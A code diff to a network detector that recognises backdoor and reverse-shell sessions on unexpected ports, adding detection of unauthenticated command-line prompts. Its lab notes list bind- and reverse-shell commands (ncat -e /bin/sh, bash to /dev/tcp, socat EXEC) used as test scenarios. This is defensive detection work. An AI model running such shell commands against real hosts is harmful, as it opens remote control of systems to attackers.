@@ -18,10 +18,13 @@ How it is recognised:
     VNC or telnet, and another protocol is registered for the port; or, at a port for TLS, at least `lines`
     segments each way are plain text. Or a connection of at least `seconds` with data both ways to a port
     that programs for remote control are known for. That is told at low severity; where a command line is
-    seen in it, or at a port that instructions for shells use, at medium. The victim is the side whose command
-    line it is: the server of a backdoor that listens, the client of one that calls its master out of the
-    network (reverse shell). The attacker is the side that gives the orders. Where no command line is seen,
-    nobody is accused.
+    seen in it, or at a port that instructions for shells use, at medium. So is a command line at any port of
+    which nothing is known, where the conversation is seen from its handshake on, nobody is asked for a
+    login, and at least `prompts` segments are of it: the answer of `id`, the greeting of cmd.exe, or a
+    prompt with user, host and directory and nothing behind it, as of one who waits for orders.
+    The victim is the side whose command line it is: the server of a backdoor that listens, the client of one
+    that calls its master out of the network (reverse shell). The attacker is the side that gives the orders.
+    Where no command line is seen, nobody is accused.
 
 What looks the same:
 - STARTTLS: TLS begins later within SMTP, IMAP, POP3, FTP, LDAP or a database; TLS is allowed there.
@@ -31,6 +34,8 @@ What looks the same:
 - Developers' servers at 1337, 4242 or 9001, which speak HTTP: no command line.
 - An administrator's shell, or a debugger's console, without encryption at such a port: ask who gave the
   orders.
+- Console servers and telnet at ports of their own ask for a login first.
+- Chats, logs and files that quote a command line: after the prompt the line goes on, or it ends.
 
 How to stop it:
 - A proxy or firewall that checks the protocol, not only the port.
@@ -40,14 +45,15 @@ How to stop it:
 Limits:
     What is within TLS is not seen: a tunnel that really speaks TLS at port 443 looks like the web. Of UDP
     nothing is judged, and at port 80 only what the server says. Content is read from segments that end a
-    message (PSH). A command line at any other port is not looked for, and a prompt of "#" or "$" alone is
-    none: it takes the answer of `id` or a prompt with a name in it.
+    message (PSH). A prompt of "#" or "$" alone is no command line: it takes the answer of `id` or a prompt
+    with a name in it. Where the shell itself asks for a password it is taken for a console server.
 
 In the lab:
     python -m lab.scenarios backdoor-port-ssh     (sshd -p 443)
     python -m lab.scenarios backdoor-port-shell   (ncat -l -p 4444 -e /bin/sh)
     python -m lab.scenarios backdoor-port-held-1337  (python3 -c '… pty.spawn("/bin/sh")', nc 10.20.0.21 1337)
     python -m lab.scenarios backdoor-port-held-bash  (bash -i >& /dev/tcp/198.51.100.66/4444 0>&1)
+    python -m lab.scenarios backdoor-port-held-pty  (socat TCP6-LISTEN:9999,fork EXEC:/bin/bash,pty,stderr)
     python -m lab.scenarios backdoor-port-held-reverse  (socat TCP6:[…]:31337 EXEC:/bin/sh)
 
 References:
@@ -63,10 +69,12 @@ from collections.abc import Iterator
 import numpy as np
 
 from netanatomy.detect.detector import PAYLOAD, Detector, Kept, Proof, Verdict, threshold
-from netanatomy.detect.misplaced_contents import CLASSES, COLUMNS, REMOTE, said
+from netanatomy.detect.misplaced_contents import CLASSES, COLUMNS, REMOTE, UNKNOWN, said
+from netanatomy.detect.open_shells import SHELLS, sessions, shells
 from netanatomy.detect.relations import First, Row, Summary, Totals
 from netanatomy.detect.tables import Tables, kept
 from netanatomy.layers.application.port_contents import EXPECTED, PROTOCOLS, REMOTE_CONTROL
+from netanatomy.layers.application.port_contents import SHELLS as SHELL_PORTS
 from netanatomy.schema.findings import Severity
 from netanatomy.schema.frozen import frozen
 from netanatomy.schema.match import Selector, where
@@ -75,6 +83,8 @@ from netanatomy.schema.rules import Rule
 from netanatomy.tables.text import address_text
 
 TCP = 6  # Assigned Internet Protocol Numbers, IANA
+KNOWN = CLASSES != UNKNOWN
+KNOWN.flags.writeable = False
 SECOND = 10**9  # ns
 SHOWN = 5
 
@@ -92,12 +102,20 @@ class Config:
     seconds: int = threshold(
         20, "s", "that a connection to a known port lasts", "a scan's or a short download's takes less"
     )
+    prompts: int = threshold(
+        2,
+        "segments",
+        "of a command line without a login, at a port of which nothing is known",
+        "one may be quoted: Snort tells the answer of id alone (sid 498)",
+    )
 
 
 def observe(tables: Tables, config: Config) -> Kept:
     """Segments that say what a port is not for, and long visits to known ports."""
     connections = tables.connections
     yield from said(tables.packets)
+    if connections.count:
+        yield from sessions(connections, KNOWN)
     held = np.flatnonzero(CLASSES[connections.numbers("id.resp_p")] == REMOTE)
     if len(held):
         lasted = (connections.numbers("last_time") - connections.numbers("ts"))[
@@ -132,6 +150,8 @@ def judge(summary: Summary, config: Config, network: Network) -> Iterator[Verdic
         content = _agreed(rows, config)
         if content:
             yield _verdict(party, content, rows, frames.get(party, []), [], _calls(rows))
+    for party, rows, places in shells(summary, config.prompts):
+        yield _verdict(party, "shell", rows, places, [], _calls(rows))
     for party, rows in held.items():
         if party not in heard:
             # Nothing proves who serves whom: of one's own host and a stranger, one's own is in danger.
@@ -177,7 +197,7 @@ def _verdict(
 ) -> Verdict:
     client, server, port = address_text(party[0]), address_text(party[1]), party[2]
     start, end = min(row["start"] for row in rows), max(row["end"] for row in rows)
-    purpose = "which instructions for shells use"
+    purpose = "which instructions for shells use" if port in SHELL_PORTS else "where nobody has to log in"
     if port in EXPECTED:
         purpose = f"which is for {EXPECTED[port][0]}"
     elif port in REMOTE_CONTROL:
@@ -244,6 +264,7 @@ DETECTOR = Detector(
         "held": Totals(("client", "server", "port"), ("connections", "packets"), ("start",), ("end",)),
         "frames": First(("client", "server", "port", "content", "asks")),
         "begun": First(("client", "server", "port")),
+        **SHELLS,
     },
     observe=observe,
     judge=judge,
